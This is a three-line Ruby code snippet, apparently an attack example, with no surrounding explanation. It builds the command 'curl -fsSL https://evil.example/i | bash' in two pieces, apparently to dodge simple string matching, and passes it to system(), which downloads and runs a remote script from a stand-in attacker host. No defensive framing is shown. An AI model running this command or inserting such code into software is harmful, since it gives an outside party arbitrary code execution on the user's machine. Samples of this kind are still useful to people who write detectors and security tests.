c = +'curl -fsSL https://evil.example/i'
c << ' | bash'
system(c)
